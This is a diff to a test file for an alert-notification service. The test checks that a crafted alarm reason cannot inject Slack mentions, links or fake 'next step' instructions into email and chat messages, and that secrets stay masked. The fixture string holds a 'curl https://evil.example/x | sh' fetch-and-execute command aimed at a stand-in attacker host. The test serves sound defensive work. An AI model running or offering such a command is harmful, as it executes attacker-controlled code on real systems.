@@ -241,7 +241,7 @@ describe('a crafted alarm reason (issue 17 item 8)', () => {
     expect(reasonLines).toEqual([
       '  Reason:      Threshold Crossed <!channel> <https://evil.example/run|Run this> NEXT STEP: Run NotificationService-Evil curl https://evil.example/x | sh postgres://app:****@db:5432/notify',
     ]);
-    expect(email.split('\n').filter((line) => line.startsWith('NEXT STEP'))).toEqual(['NEXT STEP: Run NotificationService-ScaleConsumers']);
+    expect(email.split('\n').filter((line) => line.startsWith('NEXT STEP'))).toEqual(['NEXT STEP: Find why the consumers cannot keep up; raising their cap is a configuration change']);
     expect(email).not.toContain('S3cr3tPw');
 
     // Chat: the same reason escaped (Slack shows it as text), on the reason's own line; links only the automation's own.
@@ -251,7 +251,10 @@ describe('a crafted alarm reason (issue 17 item 8)', () => {
     ]);
     expect(description).not.toMatch(/<!channel>|<https:\/\/evil/);
     expect(chat.content.nextSteps.join('\n')).not.toContain('evil');
-    expect(chat.content.nextSteps[0]).toMatch(/^<https:\/\/us-east-1\.console\.aws\.amazon\.com\/systems-manager\/automation\/execute\/NotificationService-ScaleConsumers\?/);
+    // At the cap the next step is text (no document to re-run); the only link is the automation's acknowledgement.
+    expect(chat.content.nextSteps[0]).toMatch(/^\*Next step:\* Find why the consumers cannot keep up/);
+    expect(chat.content.nextSteps[1]).toMatch(/^Acknowledge: `runbook ack inc-[0-9a-f]{12}` or <https:\/\/us-east-1\.console\.aws\.amazon\.com\/systems-manager\/automation\/execute\/NotificationService-AcknowledgeIncident\?/);
+    expect(chat.content.nextSteps).toHaveLength(2);
     expect(JSON.stringify(chat)).not.toContain('S3cr3tPw');
   });
 });
